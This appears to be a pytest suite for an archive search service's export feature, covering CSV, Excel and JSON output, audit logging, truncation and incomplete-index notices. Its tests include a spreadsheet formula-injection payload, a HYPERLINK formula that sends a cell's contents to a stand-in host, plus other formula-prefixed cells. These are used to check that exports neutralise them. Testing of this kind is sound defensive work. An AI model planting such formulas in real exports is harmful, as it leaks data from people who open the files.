"""All hits as a file: nothing is run by a spreadsheet, nothing is cut in silence, the audit knows before anything leaves."""

from __future__ import annotations

import csv
import io
import json
import warnings
from dataclasses import replace

import openpyxl
import pytest
from search_archive import CL, QR, lay_out, scope_of

from archive.errors import IndexUnavailableError
from search_api import exports
from search_api.notes import Note
from search_api.spreadsheets import write_csv_row

EXPORT = "/api/v1/search/export"
EVIL = '=HYPERLINK("http://x/?"&A1,"点")'


def ask(client, output_format, **params):
    return client.get(EXPORT, params={"format": output_format, **params})


def rows_of_csv(response):
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def open_book(response):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return openpyxl.load_workbook(io.BytesIO(response.content))


def test_a_csv_row_leads_back_to_the_shelf(client):
    response = ask(client, "csv", query="欧阳劼")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="danghao-')
    (row,) = rows_of_csv(response)
    assert (row["档号"], row["盒号"], row["库位"], row["页定位"]) == (QR, "0003", "2库房-01列-03节-2层", f"{QR}#0001")
    assert row["匹配方式"] == "与所查一致"
    assert len(row["扫描件SHA-256"]) == 64
    assert "【欧阳劼】" in row["摘录"]


def test_a_workbook_holds_texts_and_says_what_it_is(client):
    response = ask(client, "xlsx", query="432299197908050312")
    book = open_book(response)
    sheet = book["检索结果"]
    head = [cell.value for cell in sheet[1]]
    cell = sheet.cell(2, head.index("身份证") + 1)
    assert (cell.value, cell.data_type) == ("432299197908050312", "s")
    facts = dict(book["说明"].values)
    assert facts["共检得（件）"] == facts["本表列出（件）"] == 1
    assert facts["检索范围完整"] == "是"


def test_json_holds_the_hits_of_a_search(client):
    found = client.get("/api/v1/search", params={"query": "登记", "explain": "true"}).json()
    exported = ask(client, "json", query="登记", explain="true").json()
    assert exported["hits"] == found["hits"]
    assert (exported["total"], exported["exported"], exported["cut_off"]) == (found["total"], found["total"], False)


@pytest.mark.parametrize("output_format", exports.FORMATS)
def test_nothing_found_is_a_whole_file(client, output_format):
    response = ask(client, output_format, query="郭子虚")
    assert response.status_code == 200
    if output_format == "csv":
        assert rows_of_csv(response) == []
    elif output_format == "json":
        assert response.json()["hits"] == []
    else:
        assert open_book(response)["检索结果"].max_row == 1


def test_all_pages_are_turned_in_order_and_each_is_audited(archive, client, monkeypatch):
    monkeypatch.setattr(exports, "_PAGE", 2)
    expected = [hit["ref_code"] for hit in client.get("/api/v1/search", params={"sort": "ref"}).json()["hits"]]
    before = len(archive.tags())
    assert [row["档号"] for row in rows_of_csv(ask(client, "csv", sort="ref"))] == expected
    entries = [entry.event for entry in archive.catalogue.audit.entries()][before:]
    assert [event.tag for event in entries] == [
        "test:search:query", "test:search:export", "test:search:query", "test:search:query",
    ]  # fmt: skip
    given = [ref for event in entries if event.tag.endswith("query") for ref in event.detail["given"]]
    assert given == expected
    assert entries[1].detail == {"format": "csv", "total": 5, "given": 5}


def test_what_is_cut_off_is_said(client, monkeypatch):
    monkeypatch.setattr(exports, "_PAGE", 2)
    rows = rows_of_csv(ask(client, "csv", limit=3))
    assert len(rows) == 4
    assert rows[-1]["档号"] == "# 只列出 3 件，共 5 件；请缩小检索范围"
    document = ask(client, "json", limit=3, offset=1).json()
    assert (document["exported"], document["total"], document["cut_off"], len(document["hits"])) == (3, 5, True, 3)
    assert dict(open_book(ask(client, "xlsx", limit=3))["说明"].values)["未全部列出"].startswith("只列出 3 件")


def test_what_may_be_missing_is_said(archive, client):
    archive.add("J998-ZY·HJ·QR·2008·D30-0001-005", [None])
    rows = rows_of_csv(ask(client, "csv", query="欧阳劼"))
    assert rows[-1]["档号"] == "# 检索范围不完整：1 页尚未识读"
    assert len(rows_of_csv(ask(client, "csv", query="单国梁", **{"class": "车辆"}))) == 1


def change_later_pages(archive, monkeypatch, change):
    """Turn pages of two hits, and give the answer of every page but the first as ``change`` makes it."""
    monkeypatch.setattr(exports, "_PAGE", 2)
    search = archive.service.search

    def changed(parameters, *, scope, max_limit=1000):
        answer = search(parameters, scope=scope, max_limit=max_limit)
        return change(answer) if parameters.offset else answer

    monkeypatch.setattr(archive.service, "search", changed)


def lose_a_shard(answer):
    return replace(answer, asked=replace(answer.asked, index_notes=(Note("1 of 2 shards", "两个分片缺一"),)))


def test_what_a_later_page_may_miss_is_said(archive, client, monkeypatch):
    change_later_pages(archive, monkeypatch, lose_a_shard)
    assert rows_of_csv(ask(client, "csv"))[-1]["档号"] == "# 检索范围不完整：两个分片缺一"
    document = ask(client, "json").json()
    assert (document["complete"], document["incomplete_reason"]) == (False, "1 of 2 shards")
    assert (document["exported"], len(document["hits"])) == (5, 5)
    assert dict(open_book(ask(client, "xlsx"))["说明"].values)["检索范围完整"] == "否：两个分片缺一"


def test_hits_that_moved_away_while_pages_were_turned_are_said(archive, client, monkeypatch):
    change_later_pages(archive, monkeypatch, lambda answer: replace(answer, hits=answer.hits[1:]))
    document = ask(client, "json").json()
    assert (document["exported"], document["total"], document["complete"]) == (3, 5, False)
    assert document["incomplete_reason"].startswith("the index changed while the hits were listed: 3 of 5")


def test_no_program_runs_what_a_catalogue_says(archive, client):
    archive.add("J998-ZY·HJ·QR·2008·D30-0001-666", [lay_out("甲乙丙")], title=EVIL, location="@SUM(1)", box="-1+1")
    (row,) = rows_of_csv(ask(client, "csv", query="甲乙丙"))
    assert (row["题名"], row["库位"], row["盒号"]) == ("'" + EVIL, "'@SUM(1)", "'-1+1")
    sheet = open_book(ask(client, "xlsx", query="甲乙丙"))["检索结果"]
    assert {cell.data_type for cell in sheet[2]} <= {"s", "n", "inlineStr"}
    assert EVIL in [cell.value for cell in sheet[2]]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1", "'=1"), (" =1", "' =1"), ("＝1", "'＝1"), ("+86", "'+86"), ("-", "'-"), ("湘F-1", "湘F-1"), ("", ""),
        ("甲\n=乙", "甲 =乙"), ("\t=1", "'\t=1"), ("甲\0乙", "甲乙"), (2008, "2008"), (None, ""), ("\ud800", "?"),
    ],
)  # fmt: skip
def test_cells_of_csv(cell, written):
    assert write_csv_row([cell, "末"]).decode().rstrip("\r\n") == f"{written},末"


@pytest.mark.parametrize("text", ["甲\x0b乙", "\ud800", "字" * 40_000, "#N/A", "=A1"])
def test_any_text_makes_a_workbook(archive, client, text):
    archive.add("J998-ZY·HJ·QR·2008·D30-0001-666", title="甲乙丙", location=text)
    sheet = open_book(ask(client, "xlsx", query="甲乙丙"))["检索结果"]
    assert sheet.cell(2, exports_column("库位")).data_type == "s"


def exports_column(name):
    from search_api.hit_table import HEADER

    return HEADER.index(name) + 1


def test_a_scope_bounds_what_leaves(archive, make_client):
    client = make_client(archive, resolve_scope=lambda user: scope_of("车辆"))
    assert [hit["ref_code"] for hit in ask(client, "json").json()["hits"]] == [CL]


@pytest.mark.parametrize(
    "params",
    [{"format": "pdf"}, {}, {"format": "csv", "limit": "0"}, {"format": "csv", "limit": "10001"}, {"format": "csv", "x": "1"}, {"format": "csv", "query": "日期:abc"}],
)  # fmt: skip
def test_what_cannot_be_exported_is_a_problem_document(client, params):
    response = client.get(EXPORT, params=params)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"


def test_an_index_that_fails_later_breaks_a_workbook_before_it_begins(archive, client, monkeypatch):
    monkeypatch.setattr(exports, "_PAGE", 2)
    search = archive.service.search

    def fail(parameters, *, scope, max_limit=1000):
        if parameters.offset:
            raise IndexUnavailableError("gone")
        return search(parameters, scope=scope, max_limit=max_limit)

    monkeypatch.setattr(archive.service, "search", fail)
    assert ask(client, "xlsx").status_code == 503


def test_the_results_page_links_to_the_whole_search(client):
    from html.parser import HTMLParser

    class Links(HTMLParser):
        def handle_starttag(self, tag, attrs):
            href = dict(attrs).get("href", "")
            if href.startswith(EXPORT):
                found.append(href)

    found = []
    page = Links()
    page.feed(
        client.get("/", params={"q": "登记", "year": "2008", "class": "户籍", "sort": "-year", "strict": "true"}).text
    )
    assert len(found) == 3
    (json_link,) = [link for link in found if link.endswith("format=json")]
    assert "strict=true" in json_link
    exported = json.loads(client.get(json_link).content)
    shown = client.get("/api/v1/search", params={"query": "(登记) 年度:2008", "class": "户籍", "sort": "-year"}).json()
    assert [hit["ref_code"] for hit in exported["hits"]] == [hit["ref_code"] for hit in shown["hits"]] != []
